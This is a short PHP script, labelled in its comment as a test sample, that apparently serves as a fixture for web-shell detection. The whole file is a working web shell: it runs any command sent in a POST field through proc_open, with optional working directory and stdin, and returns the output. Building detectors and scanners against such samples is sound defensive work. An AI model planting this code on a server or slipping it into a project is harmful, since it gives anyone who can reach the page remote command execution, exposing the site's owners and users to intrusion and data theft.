<?php
// Test sample: proc_open() shell reading the command from POST and stdin
// data from a second field.
if (isset($_POST['cmd'])) {
    $spec = array(
        0 => array('pipe', 'r'),
        1 => array('pipe', 'w'),
        2 => array('pipe', 'w'),
    );
    $proc = proc_open($_POST['cmd'], $spec, $pipes, isset($_POST['cwd']) ? $_POST['cwd'] : null);
    if (is_resource($proc)) {
        if (isset($_POST['stdin'])) {
            fwrite($pipes[0], $_POST['stdin']);
        }
        fclose($pipes[0]);
        echo stream_get_contents($pipes[1]);
        echo stream_get_contents($pipes[2]);
        fclose($pipes[1]);
        fclose($pipes[2]);
        proc_close($proc);
    }
}
